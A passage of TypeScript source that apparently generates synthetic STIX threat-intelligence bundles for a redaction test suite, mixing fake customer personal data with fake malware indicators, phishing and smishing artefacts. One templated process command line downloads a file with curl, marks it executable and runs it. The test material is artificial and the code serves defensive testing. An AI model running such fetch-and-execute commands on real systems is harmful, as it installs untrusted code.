      [L.customer, L.customerNo, L.address, L.dob, L.bank].join('\t'),
      [registerName(c), b.put(v.customerNo), address(c), b.put(v.dob), b.put(v.bank)].join('\t'),
    ].join('\n');
  },
  json(c) {
    const { b, v, t } = c;
    const doc = {
      case: b.put(c.ticket),
      subscriber: { name: b.put(v.name), msisdn: b.put(v.msisdn), imsi: b.put(v.imsi), email: b.put(v.email), birth_date: v.dobIso },
      device: { imei: b.put(v.imei), mac: b.put(v.mac), serial: b.put(v.serial) },
      events: [{ ts: c.date, dst: t.c2[0], dst_ip: t.ips[0], src: b.put(v.privateIp) }],
    };
    b.put(v.dob);
    const json = b.r.chance(0.5) ? JSON.stringify(doc, null, 2) : JSON.stringify(doc);
    // Python's json.dumps escapes every non-ASCII character by default.
    return b.r.chance(0.4) ? json.replace(/[^\x00-\x7f]/g, (ch) => `\\u${ch.charCodeAt(0).toString(16).padStart(4, '0')}`) : json;
  },
  yaml(c) {
    const { b, v, t } = c;
    return [
      `case: ${b.put(c.ticket)}`,
      'customer:',
      `  name: "${b.put(v.name)}"`,
      `  email: ${b.put(v.email)}`,
      `  dob: "${b.put(v.dob)}"`,
      `  ${slug(v.nid.label) || 'national_id'}: "${b.put(v.nid)}"`,
      'device:',
      `  serial: ${b.put(v.serial)}`,
      `  mac: "${b.put(v.mac)}"`,
      `  ipv6: ${b.put(v.ipv6)}`,
      'threat:',
      `  c2: [${t.c2.join(', ')}]`,
      `  family: ${t.malware}`,
    ].join('\n');
  },
  xml(c) {
    const { b, v } = c;
    return [
      '<?xml version="1.0" encoding="UTF-8"?>',
      '<subscriber>',
      `  <name>${b.put(v.name)}</name>`,
      `  <msisdn>${b.put(v.msisdn)}</msisdn>`,
      `  <iccid>${b.put(v.iccid)}</iccid>`,
      `  <address><street>${b.put(v.street)}</street><postcode>${b.put(v.postcode)}</postcode><city>${v.city}</city></address>`,
      `  <contract id="${b.put(v.contract)}"/>`,
      '</subscriber>',
    ].join('\n');
  },
  syslog(c) {
    const { b, v, t, org } = c;
    const mon = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
    const stamp = () => {
      const d = new Date(b.ts(2));
      return `${mon[d.getUTCMonth()]} ${String(d.getUTCDate()).padStart(2, ' ')} ${d.toISOString().slice(11, 19)}`;
    };
    return [
      `<30>${stamp()} ${b.put(v.host)} pppd[812]: user "${b.put(v.login)}@${org.domain}" authenticated, local IP ${b.put(v.publicIp)}`,
      `<30>${stamp()} ${b.put(v.host)} dnsmasq[301]: query[A] ${t.c2[1]} from ${b.put(v.privateIp)}`,
      `<28>${stamp()} ${b.put(v.host)} kernel: DROP IN=eth0 SRC=${t.ips[1]} DST=${b.put(v.publicIp)} PROTO=TCP DPT=7547`,
      `<30>${stamp()} bng01.${org.domain} radiusd[77]: Accounting-Start ${b.put(v.msisdn)} framed ${b.put(v.publicIp)} mac ${b.put(v.mac)}`,
    ].join('\n');
  },
  config(c) {
    const { b, v, org } = c;
    return [
      '! running-config excerpt',
      `hostname ${b.put(v.host)}`,
      `snmp-server contact ${b.put(v.name)} ${b.put(v.phone)}`,
      `snmp-server location ${address(c)}`,
      'interface Dialer1',
      ` ppp chap hostname ${b.put(v.login)}@${org.domain}`,
      ` ip address ${b.put(v.publicIp)} 255.255.255.255`,
      'interface Vlan10',
      ` ip address ${b.put(v.privateIp)} 255.255.255.0`,
      ` ipv6 address ${b.put(v.ipv6)}/64`,
      `ntp server ${b.put(v.companyDomain)}`,
    ].join('\n');
  },
  spreadsheet(c) {
    const { b, v } = c;
    const row = b.r.int(4, 260);
    const L = b.loc.phrases.labels;
    return [
      `| # | ${L.customer} | ${L.card} | ${L.bank} | ${L.device} |`,
      '|---|---|---|---|---|',
      `| ${row} | ${b.put(v.name)} (${v.nid.label} ${b.put(v.nid)}) | ${b.put(v.card)} | ${b.put(v.bank)} | ${deviceLine(c)} |`,
      `| ${row + 1} | ${b.put(v.company)} | – | – | ${b.put(v.serial)} |`,
    ].join('\n');
  },
  cdr(c) {
    const { b, v, t } = c;
    return [
      'ts;a_party;b_party;imsi;type;cell',
      `${b.ts(4)};${t.smsSender};${b.put(v.msisdn)};${b.put(v.imsi)};SMS-MT;${b.r.int(10000, 65000)}`,
      `${b.ts(4)};${b.put(v.msisdn)};${t.premium.replace(/\D/g, '')};${b.put(v.imsi)};MOC;${b.r.int(10000, 65000)}`,
      `${b.ts(4)};${t.smsNumber.replace(/\D/g, '')};${b.put(v.msisdn)};${b.put(v.imsi)};SMS-MT;${b.r.int(10000, 65000)}`,
    ].join('\n');
  },
  rmaForm(c) {
    const { b, v, tech } = c;
    const L = b.loc.phrases.labels;
    return [
      `RMA ${b.put(c.ticket)}`,
      `${L.customer}: ${b.put(v.name)} (${b.put(v.company)})`,
      `${L.address}: ${address(c)}`,
      `${L.site}: ${b.put(v.coords)}`,
      `${L.device}: ${deviceLine(c)}`,
      c.vert.key === 'telematics' || c.vert.key === 'ev-charger' ? `VIN ${b.put(v.vin)} / ${b.put(v.plate)}` : `IMEI ${b.put(v.imei)}`,
      `${L.technician}: ${b.put(tech.name)}, ${b.put(tech.phone)}`,
      `${L.note}: ${b.loc.phrases.action}.`,
    ].join('\n');
  },
  affected(c) {
    const { b, v, t } = c;
    const sep = b.r.pick(['\t', ',', ' | ']);
    const rows = [{ name: v.name, msisdn: v.msisdn, imei: v.imei, email: v.email, ip: v.publicIp }, ...c.others].map((o) =>
      [b.put(o.name), b.put(o.msisdn), b.put(o.imei), b.put(o.email), b.put(o.ip), t.c2[b.r.int(0, t.c2.length - 1)]].join(sep),
    );
    return [`${b.loc.phrases.labels.customer} / affected (${rows.length})`, ['name', 'msisdn', 'imei', 'email', 'wan_ip', 'contacted'].join(sep), ...rows].join('\n');
  },
  translated(c) {
    const { b, v, t } = c;
    const P = b.loc.phrases;
    return [
      `${P.summary}: subscriber ${b.put(v.name)} (${b.r.chance(0.4) ? b.put(v.email).replace('@', '[at]').replace(/\.(?=[^.]+$)/, '[.]') : b.put(v.email)}) received SMS from "${t.smsSender}" linking to ${t.url}; after installing ${t.sampleName} the handset (${deviceLine(c)}) joined ${t.malware}.`,
      `Original: "${P.called(b.put(v.name))}, ${P.complaint}. ${P.labels.customerNo} ${b.put(v.customerNo)}."`,
    ].join('\n');
  },
};

// ---- the bundle -----------------------------------------------------------------------------

function bundleFor(c: Ctx, staffB: Staff, profileHasTeam: boolean): StixBundle {
  const { b, org, v, t, vert } = c;
  const r = b.r;
  const L = b.loc.phrases.labels;
  const now = c.date;
  const genres = r.shuffle(Object.keys(GENRES));
  let gi = 0;
  const genre = (where: string): string => {
    const g = genres[gi++ % genres.length];
    const outer = b.where;
    b.where = `${where} (${g})`;
    const body = GENRES[g](c);
    b.where = outer;
    return body;
  };
  const acr = org.acronym.toLowerCase().replace(/[^a-z0-9]/g, '');
  const sdo = (type: string, props: Record<string, unknown>): StixObject => {
    const created = b.ts(20);
    return b.add({ type, spec_version: '2.1', id: `${type}--${b.uuid()}`, created, modified: created, created_by_ref: self.id, ...props });
  };

  // The submitter itself and its statement marking.
  b.where = 'identity(submitter)';
  const self: StixObject = {
    type: 'identity', spec_version: '2.1', id: `identity--${b.uuid()}`, created: now, modified: now, name: org.legal, identity_class: 'organization',
    sectors: [vert.sector],
    description: `${org.team} – ${org.short} (${org.acronym}), ${org.brand} product security`,
    contact_information: `${org.team} <${r.pick(['soc', 'psirt', 'cert', 'abuse'])}@${org.domain}>, ${b.put(staffB.phone)}`,
  };
  b.add(self);
  const statement = b.add({
    type: 'marking-definition', spec_version: '2.1', id: `marking-definition--${b.uuid()}`, created: now, created_by_ref: self.id, definition_type: 'statement',
    definition: { statement: `Copyright ${now.slice(0, 4)} ${org.legal}. Internal – ${org.team} only.` },
  });
  const markings = [r.chance(0.6) ? TLP_AMBER : TLP_GREEN, statement.id];

  // Customer (person or business) with its location.
  b.where = 'identity(customer)';
  const business = r.chance(0.35);
  const customer = sdo('identity', {
    name: business ? b.put(v.company) : b.put(v.name),
    identity_class: business ? 'organization' : 'individual',
    contact_information: `${b.put(v.email)}, ${b.put(v.phoneIntl)}, ${address(c)}`,
    [`x_${acr}_customer_no`]: b.put(v.customerNo),
    object_marking_refs: markings,
  });
  b.where = 'location';
  const location = sdo('location', {
    name: `${L.site}: ${b.put(v.street)}`,
    street_address: b.put(v.street), postal_code: b.put(v.postcode), city: v.city, country: b.loc.country,
    latitude: v.lat, longitude: v.lon, precision: 5,
  });
  b.put(v.coords);
  sdo('relationship', { relationship_type: 'located-at', source_ref: customer.id, target_ref: location.id });

  // Threat SDOs.
  b.where = 'malware.name';
  const malware = sdo('malware', { name: t.malware, is_family: true, malware_types: [r.pick(['bot', 'trojan', 'dropper', 'spyware'])], description: `${t.malware} sample ${t.sampleName}` });
  b.threat('malware-name', t.malware, { kind: 'name', type: 'malware', value: t.malware });
  b.where = 'threat-actor.name';
  const actor = sdo('threat-actor', { name: t.actor.name, aliases: [t.actor.alias], threat_actor_types: ['crime-syndicate'] });
  b.threat('actor-name', t.actor.name, { kind: 'name', type: 'threat-actor', value: t.actor.name });
  b.threat('actor-name', t.actor.alias, { kind: 'name', type: 'threat-actor', value: t.actor.alias });
  b.where = 'vulnerability.name';
  const vuln = sdo('vulnerability', { name: t.cve, external_references: [{ source_name: 'cve', external_id: t.cve }] });
  b.threat('cve', t.cve, { kind: 'name', type: 'vulnerability', value: t.cve });
  sdo('relationship', { relationship_type: 'uses', source_ref: actor.id, target_ref: malware.id });
  sdo('relationship', { relationship_type: 'targets', source_ref: malware.id, target_ref: vuln.id });

  // SCOs: victim side and attacker side.
  b.where = 'sco';
  const vIp = b.sco('ipv4-addr', { value: b.put(v.publicIp) });
  const vPriv = b.sco('ipv4-addr', { value: b.put(v.privateIp) });
  const vMac = b.sco('mac-addr', { value: v.macColon });
  b.put(v.mac);
  const vIp6 = b.sco('ipv6-addr', { value: b.put(v.ipv6), resolves_to_refs: [vMac.id] });
  const aIps = t.ips.map((ip) => b.sco('ipv4-addr', { value: ip }));
  for (const ip of t.ips) b.threat('ip:attacker', ip, { kind: 'sco', type: 'ipv4-addr', property: 'value', value: ip });
  const trapSco = t.trapIp ? b.sco('ipv4-addr', { value: t.trapIp }) : undefined;
  if (t.trapIp) b.threat('ip:attacker-in-victim-24', t.trapIp, { kind: 'sco', type: 'ipv4-addr', property: 'value', value: t.trapIp });
  const dom = t.c2.map((d) => b.sco('domain-name', { value: d, resolves_to_refs: [aIps[0].id] }));
  for (const d of t.c2) b.threat(d === t.c2[0] ? 'domain:c2-person-like' : 'domain:c2', d, { kind: 'sco', type: 'domain-name', property: 'value', value: d });
  const url = b.sco('url', { value: t.url + t.urlQuery });
  if (t.urlQuery) b.where = 'url query';
  if (t.urlQuery.includes('msisdn')) b.put(v.msisdn);
  else if (t.urlQuery.includes('email')) b.put(v.email);
  else if (t.urlQuery.includes('id=')) b.put(v.customerNo);
  b.threat('url', t.url, { kind: 'sco', type: 'url', property: 'value', value: t.url });
  b.where = 'sco';
  const flow = b.sco('network-traffic', { src_ref: vPriv.id, dst_ref: (trapSco ?? aIps[0]).id, dst_port: r.pick([443, 8443, 7547, 23]), protocols: ['ipv4', 'tcp'] });
  const flow2 = b.sco('network-traffic', { src_ref: aIps[1].id, dst_ref: vIp.id, dst_port: r.pick([22, 23, 80, 8080]), protocols: ['ipv4', 'tcp'] });
  const dir = b.sco('directory', { path: b.put(v.home) });
  const file = b.sco('file', { name: t.sampleName, hashes: { 'SHA-256': t.sha256, MD5: t.md5 }, parent_directory_ref: dir.id });
  b.threat('hash:sha256', t.sha256, { kind: 'hash', value: t.sha256 });
  b.threat('hash:md5', t.md5, { kind: 'hash', value: t.md5 });
  b.where = 'user-account';
  const windows = v.home.s.text.startsWith('C:');
  const account = b.sco('user-account', { user_id: b.put(v.login), account_login: b.put(v.login), display_name: b.put(v.name), account_type: windows ? 'windows-local' : 'unix' });
  b.where = 'process.command_line';
  const proc = b.sco('process', {
    command_line: windows
      ? `"${v.home.s.text}\\${t.sampleName}" --host ${b.put(v.host)} --c2 ${t.c2[1]}`
      : `sh -c "cd '${v.home.s.text}' && curl -s ${t.url} -o .x && chmod +x .x && ./.x ${b.put(v.host)}"`,
  });
  b.put(v.home);
  b.where = 'email-addr';
  const vMail = b.sco('email-addr', { value: b.put(v.email), display_name: b.put(v.name) });
  const aMail = b.sco('email-addr', { value: t.sender });
  b.threat('email:phish-sender', t.sender, { kind: 'sco', type: 'email-addr', property: 'value', value: t.sender });
  b.where = 'email-message';
  const msg = b.sco('email-message', {
    is_multipart: false, from_ref: aMail.id, to_refs: [vMail.id], subject: `${b.put(v.name)}, ${r.pick(['your parcel is on hold', 'verify your account', 'invoice overdue'])}`,
    body: r.chance(0.35)
      ? `<html><body><p>${b.loc.phrases.hello(b.put(v.name).replace(/ /g, '&nbsp;'))}</p><p><a href="${t.url}">${t.url}</a></p><p>${b.loc.phrases.labels.customerNo}: ${b.put(v.customerNo)}</p></body></html>`
      : `${b.loc.phrases.hello(b.put(v.name))} ${t.url}`,
  });

  b.where = 'observed-data';
  const refs = [vIp, vPriv, vMac, vIp6, ...aIps, ...(trapSco ? [trapSco] : []), ...dom, url, flow, flow2, dir, file, account, proc, vMail, aMail, msg].map((o) => o.id);
  const od = sdo('observed-data', {
    first_observed: b.ts(5), last_observed: b.ts(90), number_observed: r.int(1, 40), object_refs: [...new Set(refs)],
    [`x_${acr}_sensor`]: `${r.pick(['edr', 'bng', 'dns-fw'])}-${b.put(v.host)}`,
  });

  // Indicators whose patterns hold threat comparisons, some beside victim ones.
  const ind = (name: string, pattern: string, threats: [string, string][]): StixObject => {
    b.where = `indicator.pattern (${name})`;
    for (const [cat, val] of threats) b.threat(cat, val, { kind: 'pattern', value: val });
    return sdo('indicator', { name, pattern, pattern_type: 'stix', valid_from: b.ts(10), indicator_types: ['malicious-activity'], object_marking_refs: markings });
  };
  const indicators: StixObject[] = [];
  b.where = 'indicator.pattern';
  indicators.push(ind(`${t.malware} C2`, `[domain-name:value = ${lit(t.c2[0])}] OR [domain-name:value = ${lit(t.c2[1])}]${t.c2[2] ? ` OR [domain-name:value = ${lit(t.c2[2])}]` : ''}`, t.c2.map((d) => ['pattern:domain', d] as [string, string])));
  const flowDst = t.trapIp ?? t.ips[0];
  indicators.push(ind(`${org.acronym}-IOC ${t.malware} beacon`, `[network-traffic:src_ref.value = ${lit(b.put(v.privateIp))} AND network-traffic:dst_ref.value = ${lit(flowDst)}]`, [[t.trapIp ? 'pattern:ip-in-victim-24' : 'pattern:ip', flowDst]]));
  indicators.push(ind('payload', `[file:hashes.'SHA-256' = ${lit(t.sha256)} AND file:parent_directory_ref.path = ${lit(b.put(v.home))}] OR [file:hashes.MD5 = ${lit(t.md5)}]`, [['pattern:hash', t.sha256], ['pattern:hash', t.md5]]));
  if (r.chance(0.7)) indicators.push(ind('phishing', `[email-message:from_ref.value = ${lit(t.sender)} AND email-message:to_refs[*].value = ${lit(b.put(v.email))}]`, [['pattern:email', t.sender]]));
  if (r.chance(0.6)) indicators.push(ind('download url', `[url:value = ${lit(t.url + t.urlQuery)}]`, [['pattern:url', t.url]]));
  if (r.chance(0.5)) indicators.push(ind('scanner', `[ipv4-addr:value = ${lit(t.ips[1])}] AND [user-account:account_login = ${lit(b.put(v.login))}]`, [['pattern:ip', t.ips[1]]]));
  for (const i of indicators) sdo('relationship', { relationship_type: 'indicates', source_ref: i.id, target_ref: malware.id });

  // The incident.
  b.where = 'incident';
  const title = r.pick(vert.title).replace('{malware}', t.malware).replace('{cve}', t.cve);
  const incident = sdo('incident', {
    name: `${title} – ${b.put(c.ticket)}`,
    description: `${title}. ${r.pick(['Reported by customer care', 'Raised by the fraud desk', 'Found by the SOC', 'Escalated from field service'])}; ${r.int(2, 400)} devices (${vert.product[0]}) affected.\n\n${genre('incident.description')}`,
    external_references: [
      { source_name: `${acr}-jira`, url: `https://jira.${org.domain}/browse/${b.put(c.ticket)}`, external_id: b.put(c.ticket) },
      { source_name: 'crm', url: `https://crm.${org.adDomain}/customers/${b.put(v.customerNo)}` },
      { source_name: 'mitre-attack', external_id: t.attack, url: `https://attack.mitre.org/techniques/${t.attack.replace('.', '/')}/` },
    ],
    [`x_${acr}_reporter`]: b.put(c.tech.name),
    labels: [`${acr}-tip-export`, r.pick(['fraud', 'smishing', 'botnet', 'iot'])],
    x_subscriber: { msisdn: b.put(v.msisdn), imei: b.put(v.imei), iccid: b.put(v.iccid), dob: b.put(v.dob) },
    object_marking_refs: markings,
  });
  b.where = 'incident.x_ props';
  b.threat('attack-technique', t.attack, { kind: 'text', value: t.attack });
  sdo('relationship', { relationship_type: 'related-to', source_ref: incident.id, target_ref: malware.id, description: `${t.malware} ↔ ${t.actor.name}` });
  sdo('relationship', { relationship_type: 'related-to', source_ref: incident.id, target_ref: od.id });

  // Sightings.
  b.where = 'sighting';
  sdo('sighting', {
    sighting_of_ref: indicators[0].id, observed_data_refs: [od.id], where_sighted_refs: [r.chance(0.5) ? customer.id : self.id, location.id],
    first_seen: b.ts(5), last_seen: b.ts(60), count: r.int(1, 30),
    description: `${L.customer} ${b.put(v.name)}, ${deviceLine(c)}`,
  });
  if (r.chance(0.75)) {
    sdo('sighting', {
      sighting_of_ref: indicators[1].id, where_sighted_refs: [self.id], count: r.int(2, 400), description: genre('sighting.description'),
      ...(c.others.length ? { x_affected_msisdns: c.others.map((o) => b.put(o.msisdn)) } : {}),
    });
  }

  // Notes, opinion, report.
  b.where = 'note';
  sdo('note', { abstract: `${L.note} ${b.put(c.ticket)} – ${b.put(v.name)}`, content: genre('note.content'), authors: [b.put(c.analyst.name)], object_refs: [incident.id] });
  sdo('note', { abstract: r.pick(['Fraud desk', 'IRSF', 'SMS firewall']), content: `${genre('note.content')}\n\nIRSF destination ${t.premium}; smishing sender ${t.smsSender} / ${t.smsNumber}.`, authors: [b.put(staffB.name)], object_refs: [incident.id, indicators[0].id] });
  b.threat('premium-rate', t.premium, { kind: 'digits', value: t.premium.replace(/\D/g, '') });
  b.threat('smishing-sender', t.smsNumber, { kind: 'digits', value: t.smsNumber.replace(/\D/g, '') });
  b.threat('smishing-sender-id', t.smsSender, { kind: 'text', value: t.smsSender });
  if (r.chance(0.6)) sdo('note', { content: genre('note.content'), object_refs: [od.id] });
  if (c.others.length) {
    b.where = 'note.content (affected)';
    sdo('note', { abstract: 'Affected subscribers', content: GENRES.affected(c), object_refs: [incident.id] });
  }
  b.where = 'opinion';
  if (r.chance(0.75)) sdo('opinion', { opinion: 'strongly-agree', explanation: `${genre('opinion.explanation')}\n— ${b.put(c.analyst.name)}, ${org.team}`, authors: [b.put(c.analyst.name)], object_refs: [indicators[0].id] });
  b.where = 'report';
  const reportRefs = [incident.id, malware.id, actor.id, vuln.id, ...indicators.map((i) => i.id)];
  sdo('report', {
    name: `${org.team} ${r.pick(['weekly digest', 'flash report', 'incident report'])}: ${title}`,
    description: `${genre('report.description')}\n\n${t.cve} / ${t.attack}. ${r.chance(0.5) ? `Press contact: ${b.put(staffB.name)}, ${b.put(staffB.email)}` : `Contact ${b.put(c.analyst.email)}`}${profileHasTeam ? '' : ` (${org.team})`}`,
    published: b.ts(30), report_types: ['threat-report'], object_refs: reportRefs, object_marking_refs: markings,
  });
  return { type: 'bundle', id: `bundle--${b.uuid()}`, objects: b.objects };
}

/** One case of the ninth suite: deterministic in (seed, index). */
export function generateCaseV9(seed: number, index: number): GeneratedCase {
  const r = new Rng((Math.imul(seed ^ 0x9e3779b9, 2654435761) + Math.imul(index + 1, 40503) + 0x1f123bb5) >>> 0);
  const loc = pickLocale(r);
  const vert = r.pick(VERTICALS);
  const start = Date.UTC(2024, 0, 1) + r.int(0, 660) * 86_400_000 + r.int(0, 86_399) * 1000;
  const b = new Builder(r, loc, start);
  const org = makeOrg(r, loc, vert);
  const avoid = new Set<string>();
  const tech = makeStaff(b, org, avoid, 'technician');
  const analyst = makeStaff(b, org, avoid, 'submitter-analyst');
  const spokes = makeStaff(b, org, avoid, 'spokesperson');
  const v = makeVictim(b, org, avoid);
  const t = makeThreats(b, v, org);
  const ticketText = r.pick([`INC${r.digits(7)}`, `SR-${r.int(2023, 2025)}-${r.digits(6)}`, `${org.acronym}-${r.digits(5)}`, `#${r.digits(8)}`]);
  const ticket: Field = { cat: 'account:ticket', s: { text: ticketText, leak: [alnum(ticketText.replace(org.acronym, '')).value.length >= 7 ? alnum(ticketText.replace(org.acronym, '')) : alnum(ticketText)] } };
  const teamInProfile = r.chance(0.5);
  const corp = `${org.netblock}.${r.int(2, 250)}`;
  const corpIp: Field = { cat: 'ip:submitter', s: { text: corp, leak: [{ kind: 'ip', value: corp }] } };
  const free = loc.family.filter(([f]) => !avoid.has(f)).length;
  const others = Array.from({ length: Math.min(free, r.pick([0, 0, 1, 2, 3])) }, () => makeCoVictim(b, avoid));
  const ctx: Ctx = { b, org, vert, v, tech, analyst, t, ticket, corpIp, others, date: new Date(start).toISOString() };
  const bundle = bundleFor(ctx, spokes, teamInProfile);

  const staffInProfile = [analyst, spokes].filter(() => r.chance(0.7)).map((s) => s.person.full);
  const profile: SubmitterProfile = {
    names: [org.legal, org.short],
    domains: [org.domain],
    brands: [org.brand],
    products: [org.product],
    adDomains: [org.adDomain],
    netblocks: [`${org.netblock}.0/24`],
    staff: staffInProfile,
    customers: v.company && r.chance(0.4) ? [v.company.s.text] : [],
    redact: [...(teamInProfile ? [org.team] : []), ...(r.chance(0.6) ? [org.acronym] : [])],
    country: loc.country,
    sectors: [vert.sector],
    languages: [loc.lang],
  };
  const identity: LeakForm[] = [
    word(org.legal), word(org.short), word(org.acronym), text(org.domain), text(org.adDomain), word(org.brand), text(org.team),
    ...[analyst, spokes].map((s) => (loc.eastern ? text(s.person.full) : word(s.person.full))),
  ];
  return { index, lang: loc.tag, device: vert.key, bundle, profile, planted: [...b.planted.values()], threats: b.threats, identity };
}
